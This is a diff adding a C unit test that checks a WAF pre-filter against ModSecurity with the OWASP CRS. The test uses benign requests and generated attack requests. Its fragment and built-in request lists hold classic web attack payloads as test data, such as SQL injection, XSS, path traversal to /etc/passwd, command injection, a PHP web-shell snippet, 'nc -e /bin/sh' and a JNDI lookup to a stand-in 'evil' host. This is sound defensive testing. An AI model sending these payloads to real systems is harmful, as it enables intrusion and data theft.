@@ -1,0 +1,624 @@
+/*
+ * test_waf_pf.c - the WAF pre-filter (src/waf/prefilter.c) against
+ * libmodsecurity itself, on the real OWASP CRS.
+ *
+ * The property checked, request by request: when waf_pf_scan() says
+ * "cannot match" (false), ModSecurity with the same configuration logs no
+ * rule, reports no intervention and leaves the anomaly score at 0.  Any
+ * request breaking it is printed and fails the test.
+ *
+ * Requests: a built-in list of benign and attack requests, several
+ * thousand random ones mixing attack fragments, encodings and benign
+ * fields (WAF_PF_RANDOM, default 1500 per paranoia level), and, when
+ * WAF_PF_RAW names a file written by tests/waf/pf_dump_corpus.py, every
+ * request of the WAF corpus.  Paranoia levels 1 and 2 (WAF_PF_LEVELS="1 2").
+ *
+ * Also reported: how many benign requests the pre-filter lets skip
+ * ModSecurity, the build time, scan cost and database size.
+ *
+ * Without the CRS installed (/usr/share/modsecurity-crs) the test is
+ * skipped.
+ */
+#include "unit.h"
+
+#include "waf/prefilter.h"
+
+#include <ctype.h>
+#include <modsecurity/intervention.h>
+#include <modsecurity/modsecurity.h>
+#include <modsecurity/rules_set.h>
+#include <modsecurity/transaction.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <time.h>
+#include <unistd.h>
+
+#define CRS_LOAD "/usr/share/modsecurity-crs/owasp-crs.load"
+
+/* ---- requests ------------------------------------------------------------ */
+
+struct req {
+	char method[16];
+	char *target;
+	char protocol[16];
+	struct waf_pf_hdr hdrs[64];
+	size_t nhdrs;
+	char *body;
+	size_t body_len;
+	char *store[140];	/* owned strings */
+	size_t nstore;
+	const char *label;
+	int kind;		/* 0 benign, 1 attack, 2 random */
+};
+
+static char *keep(struct req *r, const char *s, size_t n)
+{
+	char *d = malloc(n + 1);
+	memcpy(d, s, n);
+	d[n] = '\0';
+	if (r->nstore < sizeof(r->store) / sizeof(r->store[0]))
+		r->store[r->nstore++] = d;
+	return d;
+}
+
+static void req_free(struct req *r)
+{
+	for (size_t i = 0; i < r->nstore; i++)
+		free(r->store[i]);
+	r->nstore = 0;
+}
+
+static void hdr(struct req *r, const char *n, const char *v)
+{
+	if (r->nhdrs == 64)
+		return;
+	r->hdrs[r->nhdrs++] = (struct waf_pf_hdr){ keep(r, n, strlen(n)), strlen(n),
+						   keep(r, v, strlen(v)), strlen(v) };
+}
+
+static void req_init(struct req *r, const char *method, const char *target, int kind)
+{
+	memset(r, 0, sizeof(*r));
+	snprintf(r->method, sizeof(r->method), "%s", method);
+	snprintf(r->protocol, sizeof(r->protocol), "HTTP/1.1");
+	r->target = keep(r, target, strlen(target));
+	r->kind = kind;
+}
+
+static void browser(struct req *r)
+{
+	hdr(r, "Host", "shop.example.com");
+	hdr(r, "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0");
+	hdr(r, "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8");
+	hdr(r, "Accept-Language", "en-US,en;q=0.5");
+	hdr(r, "Accept-Encoding", "gzip, deflate, br");
+	hdr(r, "Connection", "keep-alive");
+}
+
+static void body(struct req *r, const char *ctype, const char *b)
+{
+	char n[32];
+	r->body_len = strlen(b);
+	r->body = keep(r, b, r->body_len);
+	if (ctype)
+		hdr(r, "Content-Type", ctype);
+	snprintf(n, sizeof(n), "%zu", r->body_len);
+	hdr(r, "Content-Length", n);
+}
+
+static struct waf_pf_req as_pf(const struct req *r)
+{
+	return (struct waf_pf_req){
+		.method = r->method, .method_len = strlen(r->method),
+		.target = r->target, .target_len = strlen(r->target),
+		.protocol = r->protocol, .protocol_len = strlen(r->protocol),
+		.hdrs = r->hdrs, .nhdrs = r->nhdrs,
+		.body = r->body, .body_len = r->body_len,
+	};
+}
+
+/* ---- ModSecurity --------------------------------------------------------- */
+
+static char msc_ids[512];
+static int msc_logged;
+
+static void log_cb(void *data, const void *msg)
+{
+	const char *m = msg, *p;
+	msc_logged++;
+	if (m && (p = strstr(m, "[id \"")) && strlen(msc_ids) < sizeof(msc_ids) - 16) {
+		p += 5;
+		size_t n = strcspn(p, "\"");
+		if (n > 10)
+			n = 10;
+		strncat(msc_ids, p, n);
+		strcat(msc_ids, " ");
+	}
+}
+
+/* true when ModSecurity logged a rule or intervened */
+static bool msc_run(ModSecurity *ms, RulesSet *rules, const struct req *r)
+{
+	Transaction *t = msc_new_transaction(ms, rules, NULL);
+	ModSecurityIntervention it = { .status = 200 };
+	bool hit = false;
+
+	msc_ids[0] = '\0';
+	msc_logged = 0;
+	msc_process_connection(t, "192.0.2.10", 40000, "192.0.2.1", 80);
+	const char *ver = strncmp(r->protocol, "HTTP/", 5) ? r->protocol : r->protocol + 5;
+	msc_process_uri(t, r->target, r->method, ver);
+	for (size_t i = 0; i < r->nhdrs; i++)
+		msc_add_n_request_header(t, (const unsigned char *)r->hdrs[i].name, r->hdrs[i].name_len,
+					 (const unsigned char *)r->hdrs[i].value, r->hdrs[i].value_len);
+	msc_process_request_headers(t);
+	if (msc_intervention(t, &it))
+		hit = true;
+	free(it.url);
+	free(it.log);
+	it = (ModSecurityIntervention){ .status = 200 };
+	if (r->body_len)
+		msc_append_request_body(t, (const unsigned char *)r->body, r->body_len);
+	msc_process_request_body(t);
+	if (msc_intervention(t, &it))
+		hit = true;
+	free(it.url);
+	free(it.log);
+	msc_process_logging(t);
+	msc_transaction_cleanup(t);
+	return hit || msc_logged > 0;
+}
+
+/* ---- generated requests -------------------------------------------------- */
+
+static const char *const frags[] = {
+	"' OR 1=1--", "1 union select password from users", "admin'--", "1;DROP TABLE x",
+	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
+	"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", ";cat /etc/passwd",
+	"| id", "$(whoami)", "`uname -a`", "<?php system($_GET['c']); ?>", "php://filter/resource=x",
+	"${jndi:ldap://x/a}", "java.lang.Runtime", "require('child_process').exec('id')",
+	"http://169.254.169.254/latest/", "file:///etc/passwd", "%00", "%0d%0aSet-Cookie:x=1",
+	"sleep(5)", "benchmark(1000000,md5(1))", "' and '1'='1", "\" onmouseover=\"alert(1)",
+	"{{7*7}}", "<svg/onload=alert(1)>", "eval(String.fromCharCode(97))", "..%2f..%2fetc%2fpasswd",
+	"%27%20or%201%3d1", "&#x3c;script&#x3e;", "\\x3cscript\\x3e", "/*!50000select*/",
+	"select", "union", "or", "--", "#", "/*", "*/", "'", "\"", "<", ">", "(", ")", ";", "|",
+	"&&", "$", "`", "\\", "%", "%u0027", "%c0%af", "\xc3\xa9t\xc3\xa9", "\xff\xfe",
+	"hello", "world", "john.doe@example.com", "2024-01-01", "42", "true", "q=shoes",
+	"The quick brown fox", "O'Brien", "a+b", "50% off", "C:\\Users", "x=1&y=2", "name=bob",
+	"application/json", "Mozilla/5.0", "/index.html", "index.php", "cmd.exe", "wget http://x",
+	"nc -e /bin/sh", "onload=", "document.cookie", "alert(", "<a href=", "base64,PHNjcmlwdD4=",
+	"WAITFOR DELAY '0:0:5'", "char(0x41)", "0x414243", "@@version", "information_schema",
+	"/bin/bash", "powershell", ".htaccess", "web.config", "/proc/self/environ", "~root",
+	"<!--", "-->", "<![CDATA[", "\r\n", "\t", " ", "+", "=", "&", "?", "/", ".", "..",
+};
+#define NFRAGS (sizeof(frags) / sizeof(frags[0]))
+
+static uint64_t rng = 88172645463325252ull;
+
+static unsigned rnd(unsigned n)
+{
+	rng ^= rng << 13;
+	rng ^= rng >> 7;
+	rng ^= rng << 17;
+	return (unsigned)(rng % n);
+}
+
+static void pct_encode(char *out, size_t cap, const char *s, int mode)
+{
+	size_t o = 0;
+	for (; *s && o + 8 < cap; s++) {
+		unsigned char c = (unsigned char)*s;
+		if (mode == 1 && !isalnum(c))
+			o += (size_t)snprintf(out + o, cap - o, "%%%02X", c);
+		else if (mode == 2 && c == ' ')
+			out[o++] = '+';
+		else if (mode == 3 && !isalnum(c))
+			o += (size_t)snprintf(out + o, cap - o, "%%25%02X", c);
+		else if (mode == 4 && !isalnum(c) && c < 0x80)
+			o += (size_t)snprintf(out + o, cap - o, "%%u00%02X", c);
+		else if (c == '&' || c == '#' || c == ' ' || c == '%' || c < 0x20 || c >= 0x7f)
+			o += (size_t)snprintf(out + o, cap - o, "%%%02X", c);
+		else
+			out[o++] = (char)c;
+	}
+	out[o] = '\0';
+}
+
+/* A random mix of 1..3 fragments */
+static void payload(char *out, size_t cap)
+{
+	out[0] = '\0';
+	int n = 1 + (int)rnd(3);
+	for (int i = 0; i < n; i++) {
+		if (rnd(4) == 0)
+			strncat(out, "x", cap - strlen(out) - 1);
+		strncat(out, frags[rnd(NFRAGS)], cap - strlen(out) - 1);
+	}
+}
+
+static void gen_random(struct req *r)
+{
+	char p[512], e[2048], t[4096];
+	static const char *const methods[] = { "GET", "GET", "GET", "POST", "POST", "PUT", "HEAD",
+					       "DELETE", "OPTIONS", "PATCH" };
+	payload(p, sizeof(p));
+	pct_encode(e, sizeof(e), p, (int)rnd(5));
+	int where = (int)rnd(12);
+	const char *m = methods[rnd(sizeof(methods) / sizeof(methods[0]))];
+	switch (where) {
+	case 0:
+		snprintf(t, sizeof(t), "/search?q=%s&page=2", e);
+		break;
+	case 1:
+		snprintf(t, sizeof(t), "/p/%s", e);
+		break;
+	case 2:
+		snprintf(t, sizeof(t), "/api/v1/items?%s=1", e);
+		break;
+	case 3:
+		snprintf(t, sizeof(t), "/a.php?id=%s", e);
+		break;
+	default:
+		snprintf(t, sizeof(t), "%s", rnd(2) ? "/products/shoes?color=red&size=42" : "/");
+	}
+	req_init(r, m, t, 2);
+	r->label = "random";
+	if (rnd(10) != 0)
+		browser(r);
+	else
+		hdr(r, "Host", "shop.example.com");
+	switch (where) {
+	case 4:
+		hdr(r, "Cookie", (snprintf(t, sizeof(t), "session=abc123; pref=%s", rnd(2) ? p : e), t));
+		break;
+	case 5:
+		hdr(r, "User-Agent", p);
+		break;
+	case 6:
+		hdr(r, "Referer", (snprintf(t, sizeof(t), "https://shop.example.com/%s", e), t));
+		break;
+	case 7:
+		hdr(r, "X-Custom", p);
+		break;
+	case 8: {
+		/* JSON body, the payload escaped as a JSON string */
+		size_t o = 0;
+		char js[2048];
+		o += (size_t)snprintf(js, sizeof(js), "{\"name\":\"");
+		for (const char *s = p; *s && o + 8 < sizeof(js); s++) {
+			if (*s == '"' || *s == '\\')
+				js[o++] = '\\', js[o++] = *s;
+			else if ((unsigned char)*s < 0x20)
+				o += (size_t)snprintf(js + o, sizeof(js) - o, "\\u%04x", *s);
+			else
+				js[o++] = *s;
+		}
+		snprintf(js + o, sizeof(js) - o, "\",\"n\":[1,{\"k\":true}],\"z\":null}");
+		snprintf(r->method, sizeof(r->method), "POST");
+		body(r, "application/json", js);
+		break;
+	}
+	case 9:
+		snprintf(r->method, sizeof(r->method), "POST");
+		body(r, "application/x-www-form-urlencoded", (snprintf(t, sizeof(t), "user=bob&comment=%s", e), t));
+		break;
+	case 10:
+		snprintf(r->method, sizeof(r->method), "POST");
+		body(r, rnd(2) ? "text/plain" : NULL, p);
+		break;
+	case 11:
+		hdr(r, p[0] && isalpha((unsigned char)p[0]) ? "X-Forwarded-For" : "Accept", p);
+		break;
+	}
+	if (rnd(20) == 0)
+		snprintf(r->protocol, sizeof(r->protocol), rnd(2) ? "HTTP/1.0" : "HTTP/2.0");
+}
+
+/* Built-in requests: 0 benign, 1 attack */
+static size_t builtin(struct req *r, size_t i)
+{
+	switch (i) {
+	case 0: req_init(r, "GET", "/", 0); browser(r); return 1;
+	case 1: req_init(r, "GET", "/products/shoes?color=red&size=42", 0); browser(r); return 1;
+	case 2: req_init(r, "GET", "/static/app.3f2a1.js", 0); browser(r);
+		hdr(r, "Referer", "https://shop.example.com/"); return 1;
+	case 3: req_init(r, "GET", "/search?q=running+shoes&sort=price_asc", 0); browser(r);
+		hdr(r, "Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"); return 1;
+	case 4: req_init(r, "POST", "/api/v1/orders", 0); browser(r);
+		body(r, "application/json", "{\"item\":1234,\"qty\":2,\"note\":\"leave at door\",\"tags\":[\"gift\",\"fast\"]}");
+		return 1;
+	case 5: req_init(r, "POST", "/login", 0); browser(r);
+		body(r, "application/x-www-form-urlencoded", "username=alice&password=correct+horse&remember=1");
+		return 1;
+	case 6: req_init(r, "GET", "/images/logo.png", 0); browser(r); return 1;
+	case 7: req_init(r, "GET", "/api/v1/items?id=42", 0);
+		hdr(r, "Host", "api.example.com"); hdr(r, "User-Agent", "curl/8.5.0");
+		hdr(r, "Accept", "*/*"); return 1;
+	case 8: req_init(r, "GET", "/search?q=%27+OR+1%3D1--", 1); browser(r); return 1;
+	case 9: req_init(r, "GET", "/?x=<script>alert(1)</script>", 1); browser(r); return 1;
+	case 10: req_init(r, "GET", "/download?file=../../../../etc/passwd", 1); browser(r); return 1;
+	case 11: req_init(r, "POST", "/api/v1/orders", 1); browser(r);
+		body(r, "application/json", "{\"item\":\"1 union select password from users--\"}");
+		return 1;
+	case 12: req_init(r, "GET", "/", 1); browser(r);
+		hdr(r, "User-Agent", "sqlmap/1.7"); return 1;
+	case 13: req_init(r, "GET", "/", 1); hdr(r, "User-Agent", "x"); return 1;
+	case 14: req_init(r, "GET", "/index.php?cmd=;cat%20/etc/passwd", 1); browser(r); return 1;
+	case 15: req_init(r, "GET", "/", 1); browser(r);
+		hdr(r, "X-Api-Version", "${jndi:ldap://evil/a}"); return 1;
+	case 16: req_init(r, "GET", "/backup.sql", 1); browser(r); return 1;
+	case 17: req_init(r, "GET", "/", 1); browser(r); hdr(r, "Proxy", "x"); return 1;
+	case 18: req_init(r, "POST", "/login", 1); browser(r);
+		body(r, "application/x-www-form-urlencoded", "username=admin%27--&password=x"); return 1;
+	case 19: req_init(r, "GET", "/api", 0); browser(r);
+		hdr(r, "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"); return 1;
+	default:
+		return 0;
+	}
+}
+
+/* ---- raw requests (WAF_PF_RAW) ------------------------------------------- */
+
+/* "#<kind> <label>\n<len>\n<bytes>\n" records; kind "attack" or "benign" */
+static bool parse_raw(struct req *r, const char *kind, const char *label, const char *b, size_t n)
+{
+	const char *e = memmem(b, n, "\r\n\r\n", 4);
+	if (!e)
+		return false;
+	const char *le = memmem(b, (size_t)(e - b) + 2, "\r\n", 2);
+	char line[8192];
+	size_t ll = (size_t)(le - b);
+	if (ll >= sizeof(line))
+		return false;
+	memcpy(line, b, ll);
+	line[ll] = '\0';
+	char *s1 = strchr(line, ' ');
+	char *s2 = s1 ? strrchr(line, ' ') : NULL;
+	if (!s1 || s2 == s1 || memchr(line, '\0', ll) != NULL)
+		return false;
+	*s1 = '\0';
+	*s2 = '\0';
+	req_init(r, line, s1 + 1, !strcmp(kind, "attack"));
+	snprintf(r->protocol, sizeof(r->protocol), "%s", s2 + 1);
+	r->label = label;
+	const char *p = le + 2;
+	size_t clen = SIZE_MAX;
+	while (p < e + 2) {
+		const char *nl = memmem(p, (size_t)(e + 2 - p), "\r\n", 2);
+		const char *c = memchr(p, ':', (size_t)(nl - p));
+		if (!c)
+			return false;
+		const char *v = c + 1;
+		while (v < nl && (*v == ' ' || *v == '\t'))
+			v++;
+		const char *ve = nl;
+		while (ve > v && (ve[-1] == ' ' || ve[-1] == '\t'))
+			ve--;
+		if (r->nhdrs == 64)
+			return false;
+		r->hdrs[r->nhdrs++] = (struct waf_pf_hdr){ keep(r, p, (size_t)(c - p)), (size_t)(c - p),
+							   keep(r, v, (size_t)(ve - v)), (size_t)(ve - v) };
+		if ((size_t)(c - p) == 14 && !strncasecmp(p, "content-length", 14))
+			clen = strtoul(v, NULL, 10);
+		p = nl + 2;
+	}
+	const char *bd = e + 4;
+	size_t bl = n - (size_t)(bd - b);
+	if (clen != SIZE_MAX && clen < bl)
+		bl = clen;
+	if (bl) {
+		r->body = keep(r, bd, bl);
+		r->body_len = bl;
+	}
+	return true;
+}
+
+/* ---- the check ----------------------------------------------------------- */
+
+struct stats {
+	size_t n, msc_hit, pf_skip, benign, benign_skip, attack, attack_msc, violations;
+	size_t rnd_clean, rnd_clean_skip;
+};
+
+static void dump(const struct req *r)
+{
+	fprintf(stderr, "    %s %s %s\n", r->method, r->target, r->protocol);
+	for (size_t i = 0; i < r->nhdrs; i++)
+		fprintf(stderr, "    %.*s: %.*s\n", (int)r->hdrs[i].name_len, r->hdrs[i].name,
+			(int)r->hdrs[i].value_len, r->hdrs[i].value);
+	if (r->body_len)
+		fprintf(stderr, "    body: %.*s\n", (int)(r->body_len > 400 ? 400 : r->body_len), r->body);
+}
+
+static void check(struct waf_pf *pf, struct waf_pf_scratch *sc, ModSecurity *ms, RulesSet *rules,
+		  const struct req *r, struct stats *st, int pl)
+{
+	struct waf_pf_req q = as_pf(r);
+	bool might = waf_pf_scan(pf, sc, &q);
+	bool hit = msc_run(ms, rules, r);
+
+	st->n++;
+	st->msc_hit += hit;
+	st->pf_skip += !might;
+	if (r->kind == 0) {
+		st->benign++;
+		st->benign_skip += !might;
+	} else if (r->kind == 1) {
+		st->attack++;
+		st->attack_msc += hit;
+	} else if (!hit) {
+		st->rnd_clean++;
+		st->rnd_clean_skip += !might;
+	}
+	if (getenv("WAF_PF_WHY") && might && !hit)
+		fprintf(stderr, "  PL%d might (rule %ld) %s %s\n", pl, waf_pf_last_rule(sc), r->method,
+			r->target);
+	if (!might && hit) {
+		st->violations++;
+		if (st->violations <= 20) {
+			fprintf(stderr, "  PL%d VIOLATION (%s): ModSecurity matched [%s], the pre-filter said no\n",
+				pl, r->label ? r->label : "?", msc_ids);
+			dump(r);
+		}
+	}
+}
+
+static double now_ms(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
+}
+
+static char prologue_path[64];
+
+static void write_prologue(int pl)
+{
+	snprintf(prologue_path, sizeof(prologue_path), "/tmp/gh_waf_pf_prologue_%d.conf", (int)getpid());
+	FILE *f = fopen(prologue_path, "w");
+	fprintf(f,
+		"SecRuleEngine On\n"
+		"SecRequestBodyAccess On\n"
+		"SecRule REQUEST_HEADERS:Content-Type \"application/json\" \\\n"
+		"    \"id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON\"\n"
+		"SecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=%d\"\n"
+		/* owasp-crs.load's IncludeOptional is not SecLang libmodsecurity
+		 * 3.0.9 reads: the two Includes it amounts to on Debian */
+		"Include /etc/modsecurity/crs/crs-setup.conf\n"
+		"Include /usr/share/modsecurity-crs/rules/*.conf\n"
+		"SecRule TX:ANOMALY_SCORE \"@gt 0\" \"id:1999001,phase:2,pass,log,msg:'anomaly score'\"\n",
+		pl);
+	fclose(f);
+}
+
+static void run_level(int pl)
+{
+	char err[256];
+	const char *files[] = { prologue_path };
+	struct stats st = { 0 };
+
+	write_prologue(pl);
+	double t0 = now_ms();
+	struct waf_pf *pf = waf_pf_build(files, 1, pl, err, sizeof(err));
+	double build = now_ms() - t0;
+	CHECK(pf != NULL);
+	if (!pf) {
+		fprintf(stderr, "  build: %s\n", err);
+		return;
+	}
+	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
+	CHECK(sc != NULL);
+
+	ModSecurity *ms = msc_init();
+	msc_set_log_cb(ms, log_cb);
+	RulesSet *rules = msc_create_rules_set();
+	const char *merr = NULL;
+	for (size_t i = 0; i < 1; i++)
+		if (msc_rules_add_file(rules, files[i], &merr) < 0) {
+			fprintf(stderr, "  ModSecurity: %s\n", merr ? merr : "?");
+			CHECK(0);
+			return;
+		}
+
+	struct req r;
+	for (size_t i = 0; builtin(&r, i); i++) {
+		r.label = "builtin";
+		check(pf, sc, ms, rules, &r, &st, pl);
+		if (r.kind == 0 && i == 1) {
+			/* scan cost on a typical benign request */
+			struct waf_pf_req q = as_pf(&r);
+			double a = now_ms();
+			int n = 20000;
+			for (int k = 0; k < n; k++)
+				(void)waf_pf_scan(pf, sc, &q);
+			double per = (now_ms() - a) * 1e6 / n;
+			a = now_ms();
+			for (int k = 0; k < 200; k++)
+				(void)msc_run(ms, rules, &r);
+			double mper = (now_ms() - a) * 1e6 / 200;
+			printf("  PL%d scan: %.0f ns/request (ModSecurity: %.0f ns)\n", pl, per, mper);
+		}
+		req_free(&r);
+	}
+	const char *rn = getenv("WAF_PF_RANDOM");
+	long nrand = rn ? atol(rn) : 1500;
+	for (long i = 0; i < nrand; i++) {
+		gen_random(&r);
+		check(pf, sc, ms, rules, &r, &st, pl);
+		req_free(&r);
+	}
+	const char *raw = getenv("WAF_PF_RAW");
+	FILE *f = raw ? fopen(raw, "rb") : NULL;
+	if (f) {
+		char head[512];
+		size_t skipped = 0;
+		while (fgets(head, sizeof(head), f)) {
+			char kind[32], label[256];
+			size_t len;
+			if (sscanf(head, "#%31s %255s %zu", kind, label, &len) != 3)
+				break;
+			char *b = malloc(len + 1);
+			if (fread(b, 1, len, f) != len) {
+				free(b);
+				break;
+			}
+			fgetc(f);
+			if (parse_raw(&r, kind, label, b, len)) {
+				r.label = label;
+				check(pf, sc, ms, rules, &r, &st, pl);
+				req_free(&r);
+			} else {
+				req_free(&r);
+				skipped++;
+			}
+			free(b);
+		}
+		fclose(f);
+		printf("  PL%d corpus: %zu unparsable raw requests skipped\n", pl, skipped);
+	}
+	printf("  PL%d: build %.0f ms, %zu patterns, %zu fallbacks, database %zu KiB\n", pl, build,
+	       waf_pf_patterns(pf), waf_pf_fallbacks(pf), waf_pf_db_bytes(pf) / 1024);
+	printf("  PL%d: %zu requests checked, %zu matched by ModSecurity, %zu skipped by the pre-filter, "
+	       "%zu violations\n", pl, st.n, st.msc_hit, st.pf_skip, st.violations);
+	printf("  PL%d: benign %zu/%zu skipped (%.1f%%); random requests ModSecurity passes: %zu/%zu "
+	       "skipped; attacks ModSecurity caught %zu/%zu\n", pl, st.benign_skip, st.benign,
+	       st.benign ? 100.0 * st.benign_skip / st.benign : 0.0, st.rnd_clean_skip, st.rnd_clean,
+	       st.attack_msc, st.attack);
+	CHECK_EQ_INT(st.violations, 0);
+	waf_pf_scratch_free(sc);
+	waf_pf_free(pf);
+	msc_rules_cleanup(rules);
+	msc_cleanup(ms);
+	unlink(prologue_path);
+}
+
+TEST(test_against_modsecurity)
+{
+	const char *lv = getenv("WAF_PF_LEVELS");
+	if (!lv)
+		lv = "1 2";
+	for (const char *p = lv; *p; p++)
+		if (*p >= '1' && *p <= '4')
+			run_level(*p - '0');
+}
+
+TEST(test_build_errors)
+{
+	char err[256];
+	const char *files[] = { "/nonexistent/waf.conf" };
+	struct waf_pf *pf = waf_pf_build(files, 1, 1, err, sizeof(err));
+	CHECK(pf == NULL);
+	CHECK(strstr(err, "/nonexistent/waf.conf") != NULL);
+}
+
+int main(void)
+{
+	if (access(CRS_LOAD, R_OK) != 0) {
+		printf("test_waf_pf: skipped (%s not installed)\n", CRS_LOAD);
+		return 0;
+	}
+	RUN(test_build_errors);
+	RUN(test_against_modsecurity);
+	return UNIT_SUMMARY("test_waf_pf");
+}
